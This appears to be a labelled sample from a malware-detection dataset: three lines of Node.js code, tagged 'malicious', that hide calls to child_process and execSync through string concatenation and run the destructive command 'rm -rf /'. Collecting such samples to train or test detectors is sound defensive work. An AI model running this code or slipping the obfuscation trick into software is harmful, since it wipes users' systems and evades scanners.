// label: malicious; obfuscated: concat,getattr
const cp = require("child_" + "process");
cp["ex" + "ecSync"]("rm -rf /");
